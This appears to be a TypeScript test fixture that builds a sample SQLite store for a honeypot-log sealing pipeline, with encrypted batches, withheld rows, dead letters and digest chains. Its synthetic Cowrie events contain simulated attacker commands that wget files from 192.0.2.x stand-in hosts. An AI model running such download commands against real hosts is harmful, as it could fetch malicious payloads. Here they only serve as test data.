/** A small store with all that the seal format knows of encryption and withheld rows, written without the store. */
import { DatabaseSync, type SQLInputValue } from 'node:sqlite'
import { dayOf } from '../../src/core/instant.ts'
import type { PackedBatch } from '../../src/core/packed.ts'
import { ValueDictionary } from '../../src/pipeline/batch-builder.ts'
import { RecordProcessor } from '../../src/pipeline/process-records.ts'
import { ZERO_DIGEST } from '../../src/seal/chain.ts'
import { loadRecipientPrivate, newRecipientKey, recipientOf } from '../../src/seal/envelope.ts'
import { batchDigest, deadLetterDigest, ViewSealer, viewRoot } from '../../src/seal/view.ts'
import { NOW_US } from '../support/engines.ts'
import { testStages } from '../support/loading.ts'

export type Sample = {
  /** Recipient key of each batch, as PEM; undefined where the batch is not encrypted. */
  readonly pems: readonly (string | undefined)[]
  /** What was logged, by batch. */
  readonly logged: readonly Buffer[]
}

const WITHHELD = 1 << 11

/** The tables, as far as the format page names their columns. */
const TABLES = {
  sensors: ['id', 'name'],
  event_kinds: ['id', 'name'],
  sessions: ['session_key', 'sensor_id', 'session'],
  sources: ['id', 'uid', 'sensor_override', 'committed_offset'],
  batches: [
    ...['id', 'source_id', 'seq', 'start_offset', 'end_offset', 'first_record', 'records'],
    ...['stored', 'duplicate', 'held', 'dead', 'blank', 'expired', 'supersedes', 'blocks'],
    ...['record_root', 'view_root', 'schema_version', 'rule_set', 'program_version'],
    ...['committed_at_us', 'previous_digest', 'digest'],
  ],
  blocks: [
    ...['batch_id', 'n', 'start_offset', 'end_offset', 'records', 'root', 'sha256', 'codec'],
    ...['key_id', 'bytes'],
  ],
  batch_keys: ['batch_id', 'key_id', 'ephemeral', 'wrapped'],
  batch_days: ['batch_id', 'day', 'rows', 'root'],
  raw_events: [
    ...['id', 'batch_id', 'record_no', 'event_time_us', 'session_key', 'kind_id', 'flags'],
    ...['digest', 'notes', 'payload'],
  ],
  held_events: [
    ...['id', 'batch_id', 'record_no', 'event_time_us', 'session_key', 'kind_id', 'flags'],
    ...['digest', 'notes', 'payload'],
  ],
  dead_letters: [
    ...['batch_id', 'start_offset', 'end_offset', 'first_record', 'records', 'reason', 'detail'],
  ],
  audit_log: [
    ...['seq', 'at_us', 'actor', 'action', 'subject', 'reason', 'detail', 'previous_digest'],
    ...['digest'],
  ],
  signing_keys: ['key_id', 'public_key'],
  checkpoints: ['seq', 'key_id'],
} as const

/**
 * Three batches of one source: encrypted with several blocks, encrypted to another recipient, not encrypted. In each,
 * record 1 waits for a person, and record 3 waited and was let go.
 */
export function makeSample(path: string): Sample {
  const db = new DatabaseSync(path)
  for (const [table, columns] of Object.entries(TABLES))
    db.exec(`create table ${table} (${columns.join(', ')})`)
  const insert = (table: keyof typeof TABLES, row: Readonly<Record<string, SQLInputValue>>) => {
    const names = Object.keys(row)
    db.prepare(
      `insert into ${table} (${names.join(', ')}) values (${names.map(() => '?').join(', ')})`,
    ).run(...Object.values(row).map((cell) => (typeof cell === 'number' ? BigInt(cell) : cell)))
  }
  const pems = [newRecipientKey(), newRecipientKey(), undefined]
  const logged = [1200, 10, 10].map((count, b) => Buffer.from(text(b, count)))
  const uid = Buffer.alloc(16, 5)
  let [offset, firstRecord, previous] = [0, 0, ZERO_DIGEST]
  insert('sensors', { id: 1, name: 'lyon-1' })
  insert('sessions', { session_key: 1, sensor_id: 1, session: 'a1b2c3d4e5f6' })
  insert('event_kinds', { id: 1, name: 'cowrie.command.input' })
  logged.forEach((bytes, i) => {
    const batch = packed(bytes, offset, pems[i])
    const id = i + 1
    const { held, days } = addEvents(batch, id, insert)
    for (const { day, rows, root } of days) insert('batch_days', { batch_id: id, day, rows, root })
    for (const letter of batch.dead) {
      const { startOffset: start_offset, endOffset: end_offset, firstRecord: first_record } = letter
      const { records, reason, detail } = letter
      const place = { batch_id: id, start_offset, end_offset, first_record }
      insert('dead_letters', { ...place, records, reason, detail })
    }
    batch.blocks.forEach((block, n) => {
      insert('blocks', {
        ...{ batch_id: id, n, start_offset: block.startOffset, end_offset: block.endOffset },
        ...{ records: block.records, root: block.root, sha256: block.sha256 },
        ...{ codec: block.codec, key_id: batch.envelope?.keyId ?? '', bytes: block.bytes },
      })
    })
    if (batch.envelope !== undefined) {
      const { keyId, ephemeral, wrapped } = batch.envelope
      insert('batch_keys', { batch_id: id, key_id: keyId, ephemeral, wrapped })
    }
    const header = {
      ...{ sourceUid: uid, sensorOverride: '', seq: id, startOffset: batch.startOffset },
      ...{ endOffset: batch.endOffset, firstRecord, records: batch.records },
      ...{ stored: batch.count - held.length, duplicate: 0, held: held.length, dead: 1 },
      ...{ blank: batch.blank, expired: 0, supersedes: 0, blocks: batch.blocks.length },
      recordRoot: batch.recordRoot,
      viewRoot: viewRoot(days, batch.dead.map(deadLetterDigest), held, batch.envelope),
      ...{ schemaVersion: 's', ruleSet: 'r', programVersion: 'p', committedAtUs: NOW_US },
      previousDigest: previous,
    }
    const digest = batchDigest(header)
    const { sourceUid: _, sensorOverride: __, ...columns } = header
    const row = Object.entries(columns).map(([name, value]) => [
      name.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`),
      value,
    ])
    insert('batches', { id, source_id: 1, ...Object.fromEntries(row), digest })
    offset = batch.endOffset
    firstRecord += batch.records
    previous = digest
  })
  insert('sources', { id: 1, uid, sensor_override: '', committed_offset: offset })
  db.close()
  return { pems, logged }
}

function text(batch: number, count: number): string {
  const lines = Array.from({ length: count }, (_, i) => {
    // An hour before midnight and after.
    const at = new Date(Date.UTC(2026, 0, 1 + batch, 23) + i * 720_000).toISOString()
    return JSON.stringify({
      eventid: 'cowrie.command.input',
      input: `wget http://192.0.2.${i % 250}/${'x'.repeat(100)}${i}`,
      timestamp: at,
      session: 'a1b2c3d4e5f6',
      sensor: 'lyon-1',
    })
  })
  return `${lines.join('\n')}\nnot JSON\n\n`
}

function packed(bytes: Buffer, startOffset: number, pem: string | undefined): PackedBatch {
  const recipient = pem === undefined ? undefined : recipientOf(loadRecipientPrivate(pem).publicKey)
  const processor = new RecordProcessor({
    stages: testStages({ keyOrder: false }, recipient === undefined ? {} : { recipient }),
    nowUs: NOW_US,
    sensor: undefined,
    acceptEnriched: false,
    startOffset,
    dictionary: new ValueDictionary(),
  })
  const batches = [...processor.push(bytes), ...processor.finish(undefined, undefined)]
  if (batches.length !== 1 || batches[0] === undefined) throw new Error('not one batch')
  return batches[0]
}

function addEvents(
  batch: PackedBatch,
  batchId: number,
  insert: (
    table: 'raw_events' | 'held_events',
    row: Readonly<Record<string, SQLInputValue>>,
  ) => void,
) {
  const view = new ViewSealer()
  const held: Uint8Array[] = []
  let start = 0
  for (let i = 0; i < batch.count; i += 1) {
    const time = batch.eventTimesUs[i]!
    const digest = batch.rowDigests.subarray(i * 32, i * 32 + 32)
    const isWithheld = i === 1 || i === 3
    if (isWithheld) held.push(digest)
    else view.add(dayOf(time), digest)
    insert(i === 1 ? 'held_events' : 'raw_events', {
      ...{ id: batchId * 10_000 + i, batch_id: batchId, record_no: batch.recordNos[i]! },
      ...{ event_time_us: time, session_key: 1, kind_id: 1 },
      flags: batch.flags[i]! | (isWithheld ? WITHHELD : 0),
      digest: batch.digests.subarray(i * 16, i * 16 + 16),
      notes: null,
      payload: Buffer.from(batch.payloads.subarray(start, batch.payloadEnds[i])).toString(),
    })
    start = batch.payloadEnds[i]!
  }
  return { held, days: view.days() }
}
